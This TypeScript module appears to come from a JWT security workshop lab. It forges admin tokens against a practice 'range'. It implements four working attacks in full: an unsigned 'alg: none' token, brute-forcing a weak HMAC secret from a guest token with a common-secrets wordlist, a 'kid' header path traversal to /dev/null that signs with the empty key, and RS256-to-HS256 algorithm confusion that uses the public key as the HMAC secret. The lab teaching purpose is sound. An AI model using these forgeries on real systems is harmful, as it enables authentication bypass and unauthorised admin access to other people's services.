import { COMMON_JWT_SECRETS, type RangeAttack } from '@lab/contracts'
import { toBase64Url } from '@/lib/jwt'

/** A token forged in this browser, and what the attacker did to make it. */
export interface Forgery {
  token: string
  steps: string[]
}

/** What the attacker can fetch from the range: any guest token it issues, and the key it publishes. */
export interface RangeLoot {
  guestToken(attack: RangeAttack): Promise<string>
  publicKey(): Promise<string>
}

const encoder = new TextEncoder()
const segment = (value: unknown) => toBase64Url(JSON.stringify(value))

function bytesToBase64Url(bytes: ArrayBuffer): string {
  let binary = ''
  for (const byte of new Uint8Array(bytes)) binary += String.fromCharCode(byte)
  return btoa(binary).replace(/\+/g, '-').replace(/\//g, '_').replace(/=+$/, '')
}

async function hmacSha256(input: string, key: string): Promise<string> {
  // HMAC pads short keys with zeros to the block size (RFC 2104), so the empty key is the same key
  // as 64 zero bytes, which WebCrypto accepts where it refuses an empty one.
  const raw = key === '' ? new Uint8Array(64) : encoder.encode(key)
  const cryptoKey = await crypto.subtle.importKey('raw', raw, { name: 'HMAC', hash: 'SHA-256' }, false, ['sign'])
  return bytesToBase64Url(await crypto.subtle.sign('HMAC', cryptoKey, encoder.encode(input)))
}

async function hs256(claims: object, key: string, extraHeader: object = {}): Promise<string> {
  const input = `${segment({ alg: 'HS256', typ: 'JWT', ...extraHeader })}.${segment(claims)}`
  return `${input}.${await hmacSha256(input, key)}`
}

/** Claims shaped exactly like the real API's access tokens, so only the signature can make it refuse them. */
function adminClaims() {
  const iat = Math.floor(Date.now() / 1000)
  return {
    sub: crypto.randomUUID(), jti: crypto.randomUUID(), sid: crypto.randomUUID(), username: 'admin', role: 'admin',
    iss: 'session-vs-jwt-lab', aud: 'session-vs-jwt-lab:jwt', iat, exp: iat + 300,
  }
}

/** An unsigned admin token that says `alg: none`: what the `none` target accepts. */
export function forgeUnsigned(): string {
  return `${segment({ alg: 'none', typ: 'JWT' })}.${segment(adminClaims())}.`
}

/** Each attack, as workshop exercise 8 writes it, done here with WebCrypto. */
export async function forge(attack: RangeAttack, loot: RangeLoot): Promise<Forgery> {
  const claims = adminClaims()
  switch (attack) {
    case 'none':
      return { token: forgeUnsigned(), steps: ['header {"alg":"none"}, claims role admin, empty signature'] }
    case 'weak-secret': {
      const guest = await loot.guestToken('weak-secret')
      const [header, payload, signature] = guest.split('.')
      for (const [index, word] of COMMON_JWT_SECRETS.entries()) {
        if ((await hmacSha256(`${header}.${payload}`, word)) === signature) {
          return { token: await hs256(claims, word), steps: [`took a guest token the range issued`, `cracked its secret "${word}" at guess ${index + 1} of ${COMMON_JWT_SECRETS.length}`, 'signed admin claims with it'] }
        }
      }
      throw new Error(`no word of the list signed the guest token`)
    }
    case 'kid':
      return { token: await hs256(claims, '', { kid: '../../../dev/null' }), steps: ['kid "../../../dev/null": the range reads its key from /dev/null', 'signed with the empty key'] }
    case 'alg-confusion': {
      const publicKey = await loot.publicKey()
      return { token: await hs256(claims, publicKey), steps: ['fetched the RS256 public key the range publishes', 'signed HS256 with the PEM text as the HMAC secret'] }
    }
  }
}
